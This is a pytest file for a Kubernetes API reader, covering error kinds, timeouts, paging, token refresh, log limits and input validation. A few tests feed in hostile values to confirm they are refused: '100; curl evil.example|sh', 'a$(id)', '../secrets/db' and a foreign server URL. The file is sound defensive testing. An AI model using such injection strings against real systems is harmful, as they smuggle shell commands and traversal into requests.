"""The Kubernetes reader against servers that answer well, badly, slowly and not at all."""

from __future__ import annotations

import asyncio
import copy
import json
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from hypothesis import given
from hypothesis import strategies as st
from source_servers import DATA, answering, raw_server, reading, recording, scripted

from catalog.names import is_dns_subdomain
from sources.errors import SourceUnavailable
from sources.kubernetes import object_path

PODS = "/api/v1/namespaces/shop/pods"


def failure(status: int, reason: str = "", message: str = "") -> Any:
    return lambda: web.json_response(
        {"kind": "Status", "status": "Failure", "reason": reason, "message": message, "code": status}, status=status
    )


async def refused(handler: Any, tmp_path: Path, timeout_s: float = 5.0) -> SourceUnavailable:
    async with scripted(handler) as server, reading(server.url, tmp_path, timeout_s) as reader:
        with pytest.raises(SourceUnavailable) as caught:
            await reader.get(f"{PODS}/web-0")
        return caught.value


@pytest.mark.parametrize(
    ("recorded", "kind"),
    [
        ("03-errors/30-401-bad-token.json", "unauthorized"),
        ("03-errors/20-403-verb.json", "forbidden"),
        ("03-errors/31-403-anonymous.json", "forbidden"),
        ("02-faults/42-evict-blocked.json", "throttled"),
        ("04-watch/29-list-future.json", "timeout"),
        ("10-logs/32-kubelet-down.json", "server_error"),
        ("03-errors/58-400-rv.json", "server_error"),
    ],
)
async def test_recorded_errors_have_their_kind_and_quote_nothing(recorded: str, kind: str, tmp_path: Path) -> None:
    answer = json.loads((DATA / "kubernetes" / recorded).read_text())["response"]
    body, status = answer["body"], answer["status"]
    handler = answering(
        lambda: web.json_response(body, status=status) if isinstance(body, dict) else web.Response(text=str(body), status=status)
    )
    error = await refused(handler, tmp_path)
    assert (error.source, error.kind) == ("kubernetes", kind)
    message = body.get("message", "") if isinstance(body, dict) else str(body)
    assert len(message) <= 20 or message not in str(error)
    assert str(status) in error.detail


async def test_a_422_that_quotes_the_whole_object_does_not_reach_the_error(tmp_path: Path) -> None:
    body = recording("03-errors/80-fieldvalidation-strict.json")
    assert "env" in body["message"] or "containers" in body["message"]
    error = await refused(answering(body, status=422), tmp_path)
    assert error.kind == "server_error"
    assert "containers" not in str(error)


async def test_an_invented_reason_is_not_quoted(tmp_path: Path) -> None:
    error = await refused(answering(failure(500, reason="password is hunter2")), tmp_path)
    assert "hunter2" not in str(error)


async def test_absent_is_none_and_forbidden_is_not_absent(tmp_path: Path) -> None:
    async with scripted(answering(failure(404, "NotFound"))) as server, reading(server.url, tmp_path) as reader:
        assert await reader.get(f"{PODS}/web-0") is None
    assert (await refused(answering(failure(403, "Forbidden")), tmp_path)).kind == "forbidden"


@pytest.mark.parametrize(
    "answer",
    ["<html>log in</html>", "{", "[]", '"text"', "", "[" * 100_000],
    ids=["html", "cut", "list", "string", "empty", "deep"],
)
async def test_an_answer_that_is_no_object_is_malformed(answer: str, tmp_path: Path) -> None:
    assert (await refused(answering(answer), tmp_path)).kind == "malformed"


async def test_a_failure_under_status_200_is_malformed(tmp_path: Path) -> None:
    error = await refused(answering({"kind": "Status", "status": "Failure", "code": 403, "message": "secret"}), tmp_path)
    assert error.kind == "malformed"
    assert "secret" not in str(error)


async def test_a_list_without_items_is_malformed_and_items_null_is_empty(tmp_path: Path) -> None:
    async with scripted(answering({"kind": "Pod"})) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(SourceUnavailable) as caught:
            await reader.list(PODS)
        assert caught.value.kind == "malformed"
    async with scripted(answering({"kind": "PodList", "items": None})) as server, reading(server.url, tmp_path) as reader:
        assert await reader.list(PODS) == []


async def test_a_server_that_never_answers_times_out_within_the_budget(tmp_path: Path) -> None:
    async def hang(_: web.Request) -> web.StreamResponse:
        await asyncio.sleep(30)
        return web.Response()

    loop = asyncio.get_running_loop()
    began = loop.time()
    assert (await refused(hang, tmp_path, timeout_s=0.3)).kind == "timeout"
    assert loop.time() - began < 2


async def test_a_body_that_drips_times_out_as_a_whole(tmp_path: Path) -> None:
    async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n")
        for _ in range(1000):
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(0.05)

    async with raw_server(drip) as url, reading(url, tmp_path, 0.5) as reader:
        with pytest.raises(SourceUnavailable) as caught:
            await reader.get(f"{PODS}/web-0")
    assert caught.value.kind == "timeout"


async def test_credentials_that_take_too_long_are_a_timeout_too(tmp_path: Path) -> None:
    async def hang(_: object) -> None:
        await asyncio.sleep(10)

    async with scripted(answering({"kind": "Pod"})) as server, reading(server.url, tmp_path, 0.3) as reader:
        reader.api.configuration.refresh_api_key_hook = hang
        async with asyncio.timeout(2):
            with pytest.raises(SourceUnavailable) as caught:
                await reader.get(f"{PODS}/web-0")
    assert caught.value.kind == "timeout"


async def test_nobody_listening_is_unreachable_and_a_cut_connection_too(tmp_path: Path) -> None:
    async def cut(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readline()

    async with raw_server(cut) as url, reading(url, tmp_path) as reader:
        with pytest.raises(SourceUnavailable) as caught:
            await reader.get(f"{PODS}/web-0")
        assert caught.value.kind == "unreachable"
    async with reading("http://127.0.0.1:1", tmp_path) as reader:
        with pytest.raises(SourceUnavailable) as caught:
            await reader.get(f"{PODS}/web-0")
        assert caught.value.kind == "unreachable"


async def test_pages_are_followed_and_an_expired_page_starts_over_once(tmp_path: Path) -> None:
    seen: list[str] = []

    async def handle(request: web.Request) -> web.StreamResponse:
        token = request.query.get("continue", "")
        seen.append(token)
        if token == "old":
            return failure(410, "Expired")()
        if token == "two":
            return web.json_response({"items": [{"n": 2}], "metadata": {}})
        return web.json_response({"items": [{"n": 1}], "metadata": {"continue": "old" if len(seen) == 1 else "two"}})

    async with scripted(handle) as server, reading(server.url, tmp_path) as reader:
        assert await reader.list(PODS) == [{"n": 1}, {"n": 2}]
    assert seen == ["", "old", "", "two"]


async def test_pages_that_expire_again_and_again_are_unavailable(tmp_path: Path) -> None:
    async def handle(request: web.Request) -> web.StreamResponse:
        if "continue" in request.query:
            return failure(410, "Expired")()
        return web.json_response({"items": [{}], "metadata": {"continue": "x"}})

    async with scripted(handle) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(SourceUnavailable):
            await reader.list(PODS)
        assert len(server.requests) == 4


async def test_limit_bounds_what_is_fetched(tmp_path: Path) -> None:
    async def handle(request: web.Request) -> web.StreamResponse:
        return web.json_response({"items": [{}] * int(request.query["limit"]), "metadata": {"continue": "more"}})

    async with scripted(handle) as server, reading(server.url, tmp_path) as reader:
        assert len(await reader.list(PODS, limit=7)) == 7
        assert len(server.requests) == 1


async def test_a_resource_that_is_not_served_is_empty_only_on_request(tmp_path: Path) -> None:
    async with scripted(answering("404 page not found", status=404)) as server, reading(server.url, tmp_path) as reader:
        path = object_path("keda.sh/v1alpha1", "scaledobjects", namespace="shop")
        assert await reader.list(path, missing_ok=True) == []
        with pytest.raises(SourceUnavailable):
            await reader.list(path)


async def test_F73_a_rotated_token_is_used_without_a_refusal(tmp_path: Path) -> None:
    async with scripted(answering({"kind": "Pod"})) as server, reading(server.url, tmp_path, token="first") as reader:
        await reader.get(f"{PODS}/web-0")
        (tmp_path / "token").write_text("second-token")
        await reader.get(f"{PODS}/web-0")
        assert [headers["authorization"] for _, _, headers in lowered(server.requests)] == ["Bearer first", "Bearer second-token"]


async def test_F73_one_401_reads_the_token_again_and_asks_once_more(tmp_path: Path) -> None:
    asked: list[str] = []

    async def handle(request: web.Request) -> web.StreamResponse:
        asked.append(request.headers["Authorization"])
        if asked[-1] != "Bearer new":
            replacement = tmp_path / "token"
            replacement.write_text("new")
            return failure(401, "Unauthorized")()
        return web.json_response({"kind": "Pod"})

    async with scripted(handle) as server, reading(server.url, tmp_path, token="old") as reader:
        assert await reader.get(f"{PODS}/web-0") == {"kind": "Pod"}
    assert asked == ["Bearer old", "Bearer new"]


async def test_F73_a_401_that_stays_is_asked_twice_and_no_more(tmp_path: Path) -> None:
    async with scripted(answering(failure(401, "Unauthorized"))) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(SourceUnavailable) as caught:
            await reader.get(f"{PODS}/web-0")
        assert caught.value.kind == "unauthorized"
        assert len(server.requests) == 2


def lowered(requests: list[tuple[str, str, dict[str, str]]]) -> list[tuple[str, str, dict[str, str]]]:
    return [(method, path, {name.lower(): value for name, value in headers.items()}) for method, path, headers in requests]


async def test_throttled_and_failing_servers_are_not_asked_again(tmp_path: Path) -> None:
    for status in (429, 500, 503, 504):
        async with scripted(answering(failure(status))) as server, reading(server.url, tmp_path) as reader:
            with pytest.raises(SourceUnavailable):
                await reader.get(f"{PODS}/web-0")
            assert len(server.requests) == 1


@pytest.mark.parametrize(
    "recorded",
    ["17-previous-none", "18-waiting", "19-initing", "14-wrong-container", "12-multi-no-container", "23-404", "24-nonode"],
)
async def test_a_log_that_does_not_exist_is_none(recorded: str, tmp_path: Path) -> None:
    answer = json.loads((DATA / "kubernetes" / "10-logs" / f"{recorded}.json").read_text())["response"]
    body, status = answer.get("body"), answer["status"]
    handler = answering(lambda: web.json_response(body, status=status) if isinstance(body, dict) else web.Response(status=status))
    async with scripted(handler) as server, reading(server.url, tmp_path) as reader:
        assert await reader.logs("shop", "web-0", "app", previous=True) is None


@pytest.mark.parametrize("recorded", ["30-no-node-address", "31-403-log", "32-kubelet-down"])
async def test_a_log_that_cannot_be_read_is_not_an_empty_log(recorded: str, tmp_path: Path) -> None:
    answer = json.loads((DATA / "kubernetes" / "10-logs" / f"{recorded}.json").read_text())["response"]
    async with scripted(answering(answer["body"], status=answer["status"])) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(SourceUnavailable):
            await reader.logs("shop", "web-0", "app")


async def test_a_bad_request_for_another_reason_is_not_an_empty_log(tmp_path: Path) -> None:
    async with scripted(answering(failure(400, "BadRequest", "something else"))) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(SourceUnavailable):
            await reader.logs("shop", "web-0", "app")


async def test_the_byte_bound_keeps_the_newest_lines_and_whole_ones(tmp_path: Path) -> None:
    text = "".join(f"line {number:05d}\n" for number in range(20_000))
    async with scripted(answering(lambda: web.Response(text=text))) as server, reading(server.url, tmp_path) as reader:
        lines = await reader.logs("shop", "web-0", "app", tail_lines=1000, limit_bytes=100)
    assert lines == tuple(f"line {number:05d}" for number in range(20_000 - 9, 20_000))


async def test_bytes_that_are_no_text_and_a_last_line_without_end_pass(tmp_path: Path) -> None:
    body = b"\x1b[31mred\x1b[0m\r\n\xff\xfe broken\xc2\x85still this line\nlast without end"
    async with scripted(answering(lambda: web.Response(body=body))) as server, reading(server.url, tmp_path) as reader:
        lines = await reader.logs("shop", "web-0", "app")
    assert lines is not None
    assert len(lines) == 3
    assert lines[1].startswith("\ufffd\ufffd broken")
    assert lines[2] == "last without end"


async def test_H07_a_number_with_a_shell_in_it_never_becomes_a_parameter(tmp_path: Path) -> None:
    async with scripted(answering(lambda: web.Response(text=""))) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(ValueError):
            await reader.logs("shop", "web-0", "app", tail_lines="100; curl evil.example|sh")  # type: ignore[arg-type]
        assert server.requests == []


@pytest.mark.parametrize(
    "name", ["--server=https://203.0.113.9:6443", "a$(id)", "../secrets/db", "a/b", "a?b=c", "", "A", "web\n", "wéb"]
)
async def test_H06_H07_no_such_name_gets_into_a_path(name: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        object_path("v1", "pods", name, "shop")
    with pytest.raises(ValueError):
        object_path("v1", "pods", "web-0", name)
    async with scripted(answering({})) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(ValueError):
            await reader.logs(name, "web-0")
        assert server.requests == []


@pytest.mark.parametrize(
    "path", ["http://evil.example/", "/api/v1/../../secrets", "/api/v1//pods", "/api?x=1", "api/v1", "/api/v1 /x"]
)
async def test_H06_a_path_that_is_none_of_the_api_is_not_asked(path: str, tmp_path: Path) -> None:
    async with scripted(answering({})) as server, reading(server.url, tmp_path) as reader:
        with pytest.raises(ValueError):
            await reader.get(path)
        assert server.requests == []


@given(st.text(max_size=80))
def test_H07_any_text_is_either_a_name_or_refused(text: str) -> None:
    try:
        path = object_path("apps/v1", "deployments", text, "shop")
    except ValueError:
        assert not is_dns_subdomain(text)
    else:
        assert path == f"/apis/apps/v1/namespaces/shop/deployments/{text}"


async def test_the_uid_of_the_cluster_is_that_of_kube_system(tmp_path: Path) -> None:
    async with scripted(answering({"metadata": {"uid": "u-1"}})) as server, reading(server.url, tmp_path) as reader:
        assert await reader.cluster_uid() == "u-1"
        assert server.paths == ["/api/v1/namespaces/kube-system"]
    for answer in ({"metadata": {}}, {"metadata": {"uid": ""}}, {}):
        async with scripted(answering(answer)) as server, reading(server.url, tmp_path) as reader:
            with pytest.raises(SourceUnavailable):
                await reader.cluster_uid()


def test_the_error_crosses_a_process_boundary_whole() -> None:
    error = copy.copy(SourceUnavailable("prometheus", "timeout", "no answer in 5 s"))  # by the protocol that pickle uses
    assert (error.source, error.kind, error.detail) == ("prometheus", "timeout", "no answer in 5 s")
    assert str(error) == "prometheus did not answer in time: no answer in 5 s"
